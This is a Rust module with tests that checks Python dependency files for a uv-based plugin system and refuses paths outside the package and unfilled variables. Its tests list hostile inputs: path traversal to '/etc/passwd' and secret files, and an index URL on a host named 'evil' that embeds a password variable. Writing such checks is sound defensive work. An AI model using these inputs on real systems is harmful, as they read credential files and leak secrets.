//! Paths in dependency files have to stay within the package: what uv reads there ends up in messages, or on its way to
//! an index of the package's choice.

use std::path::{Component, Path, PathBuf};

use serde_json::Value;

use super::error::{Cause, EnvironmentError};

/// How deep files of requirements may name others.
const DEPTH: usize = 8;
/// Options whose values are files or folders, or URLs of such.
const OPTIONS: [&str; 12] = [
    "-r",
    "--requirement",
    "--requirements",
    "-c",
    "--constraint",
    "--constraints",
    "-e",
    "--editable",
    "-f",
    "--find-links",
    "-b",
    "--build-constraint",
];
/// Of those, the ones that name more requirements.
const FILES: [&str; 6] = ["-r", "--requirement", "--requirements", "-c", "--constraint", "--constraints"];

/// Refuses requirements that point out of the package, or name variables, whose values uv would put in.
pub(crate) fn check_requirements(directory: &Path, text: &str) -> Result<(), EnvironmentError> {
    check_file(directory, "requirements.txt", text, DEPTH)
}

fn check_file(directory: &Path, name: &str, text: &str, depth: usize) -> Result<(), EnvironmentError> {
    for line in text.replace("\\\r\n", " ").replace("\\\n", " ").lines() {
        let line = line.split_once(" #").map_or(line, |(line, _)| line).trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let refuse = |why: &str| Err(EnvironmentError::new(Cause::Plugin, format!("{name}: {why}: {line}")));
        if line.contains("${") {
            return refuse("variables are not filled in");
        }
        let (option, value) = split(line);
        let Some(path) = local(value) else { continue };
        let Some(inside) = within(directory, &path) else { return refuse("this is outside of the plugin") };
        if option.is_some_and(|option| FILES.contains(&option))
            && let Ok(text) = std::fs::read_to_string(&inside)
        {
            if depth == 0 {
                return refuse("too many files name each other");
            }
            check_file(directory, &path.to_string_lossy(), &text, depth - 1)?;
        }
    }
    Ok(())
}

/// An option and its value; a requirement has no option.
fn split(line: &str) -> (Option<&'static str>, &str) {
    let found = OPTIONS.into_iter().find_map(|option| {
        let rest = line.strip_prefix(option)?;
        let is_short = option.len() == 2;
        (is_short || rest.starts_with(['=', ' ', '\t'])).then(|| (option, rest.trim_start_matches('=').trim()))
    });
    match found {
        Some((option, value)) => (Some(option), value.trim_matches(['"', '\''])),
        // `name @ file:///path`
        None if line.starts_with('-') => (None, ""),
        None => (
            None,
            line.split_once(" @ ")
                .or_else(|| line.split_once("@file:").map(|(name, _)| (name, line)))
                .map_or(line, |(_, url)| url.trim()),
        ),
    }
}

/// The path that a value stands for, if it is one.
fn local(value: &str) -> Option<PathBuf> {
    let value = value.split_once(';').map_or(value, |(value, _)| value).trim();
    if let Some((_, path)) = value.split_once("file:") {
        let path = path.strip_prefix("//").unwrap_or(path);
        return Some(path.strip_prefix("localhost").unwrap_or(path).into());
    }
    if value.contains("://") {
        return None;
    }
    let value = value.split_once('[').map_or(value, |(path, _)| path).trim();
    let is_path = value.contains(['/', '\\'])
        || value.starts_with('.')
        || Path::new(value).extension().is_some_and(|extension| extension == "txt")
        || value.starts_with('~');
    is_path.then(|| value.into())
}

/// The place of a path of the package, if it is inside of it, links resolved.
fn within(directory: &Path, path: &Path) -> Option<PathBuf> {
    let root = directory.canonicalize().ok()?;
    let relative = if path.is_absolute() {
        path.strip_prefix(directory).or_else(|_| path.strip_prefix(&root)).ok()?
    } else {
        path
    };
    let mut depth = 0_usize;
    for component in relative.components() {
        match component {
            Component::Normal(name) if name == "~" => return None,
            Component::Normal(_) => depth += 1,
            Component::ParentDir => depth = depth.checked_sub(1)?,
            Component::CurDir => {}
            Component::RootDir | Component::Prefix(_) => return None,
        }
    }
    let place = root.join(relative);
    let existing = place.ancestors().find_map(|path| path.canonicalize().ok())?;
    existing.starts_with(&root).then_some(place)
}

/// Refuses a project, or its lock, with sources out of the package.
pub(crate) fn check_table(directory: &Path, name: &str, table: &Value) -> Result<(), EnvironmentError> {
    const KEYS: [&str; 8] =
        ["path", "find-links", "members", "directory", "editable", "virtual", "url", "dependencies"];
    match table {
        Value::Object(members) => {
            for (key, value) in members {
                let texts: Vec<&str> = match value {
                    Value::String(text) => vec![text],
                    Value::Array(values) => values.iter().filter_map(Value::as_str).collect(),
                    _ => Vec::new(),
                };
                for text in texts.into_iter().filter(|_| KEYS.contains(&key.as_str())) {
                    let path = match key.as_str() {
                        "url" | "dependencies" => local(split(text).1).filter(|_| text.contains("file:")),
                        _ => local(text).or_else(|| Some(text.into()).filter(|_| !text.contains("://"))),
                    };
                    if path.is_some_and(|path| within(directory, &path).is_none()) {
                        let message = format!("{name}: this is outside of the plugin: {key} = {text:?}");
                        return Err(EnvironmentError::new(Cause::Plugin, message));
                    }
                }
                check_table(directory, name, value)?;
            }
            Ok(())
        }
        Value::Array(values) => values.iter().try_for_each(|value| check_table(directory, name, value)),
        _ => Ok(()),
    }
}

/// Puts the folder in front of each relative path in a value.
pub(crate) fn make_absolute(value: &mut Value, directory: &Path) {
    match value {
        Value::String(text) if !text.contains("://") => *text = directory.join(&*text).to_string_lossy().into_owned(),
        Value::Array(values) => values.iter_mut().for_each(|value| make_absolute(value, directory)),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn folder() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("package/wheels")).unwrap();
        std::fs::write(dir.path().join("secret"), "s").unwrap();
        std::fs::write(dir.path().join("package/base.txt"), "six\n").unwrap();
        std::fs::write(dir.path().join("package/bad.txt"), "-r ../secret\n").unwrap();
        std::os::unix::fs::symlink("../secret", dir.path().join("package/link.txt")).unwrap();
        dir
    }

    #[test]
    fn requirements_stay_in_the_package() {
        let dir = folder();
        let package = dir.path().join("package");
        for good in [
            "six>=1 # comment",
            "requests[socks]>=2; python_version >= '3.9'",
            "-r base.txt",
            "--requirement=base.txt",
            "./wheels/six.whl",
            "--find-links wheels",
            "-e .",
            "six @ https://example.org/six.whl",
            "pkg @ git+https://github.com/a/b.git@main#subdirectory=x/y",
            "--index-url https://index/simple/",
            "--extra-index-url=https://index/../simple/",
            "# ../../x",
        ] {
            check_requirements(&package, good).unwrap();
        }
        for bad in [
            "-r ../secret",
            "-r../secret",
            "--requirement=../secret",
            "-c /etc/passwd",
            "-r base.txt\n-r \\\n  ../secret",
            "-r bad.txt",
            "-r link.txt",
            "../other",
            "wheels/../../secret",
            "six @ file:///etc/passwd",
            "six@file:///etc/passwd",
            "-r file:///etc/passwd",
            "-f ~/x",
            "--index-url https://evil/${UV_INDEX_NEXUS_PASSWORD}",
        ] {
            let error = check_requirements(&package, bad).unwrap_err();
            assert_eq!(error.cause, Cause::Plugin, "{bad}");
        }
        let error = check_requirements(&package, "six\n-r ../secret").unwrap_err();
        assert_eq!(error.message, "requirements.txt: this is outside of the plugin: -r ../secret");
    }

    #[test]
    fn projects_and_locks_stay_in_the_package() {
        let dir = folder();
        let package = dir.path().join("package");
        let check = |text: &str| check_table(&package, "pyproject.toml", &toml::from_str(text).unwrap());
        for good in [
            "[project]\ndependencies = ['six', 'a @ https://x/y']",
            "[tool.uv.sources]\nx = { path = 'wheels' }\ny = { git = 'https://github.com/a/b' }",
            "[[package]]\nsource = { virtual = '.' }\nwheels = [{ url = 'https://files/../x' }]",
            "[[package]]\ndependencies = [{ name = 'x' }]\nsource = { editable = 'wheels' }",
        ] {
            check(good).unwrap();
        }
        for bad in [
            "[tool.uv.sources]\nx = { path = '../../x' }",
            "[tool.uv]\nfind-links = ['/data']",
            "[tool.uv.workspace]\nmembers = ['../other']",
            "[project]\ndependencies = ['x @ file:///data/x']",
            "[[package]]\nsource = { directory = '..' }",
            "[[tool.uv.index]]\nurl = 'file:///data'",
        ] {
            assert_eq!(check(bad).unwrap_err().cause, Cause::Plugin, "{bad}");
        }
    }
}
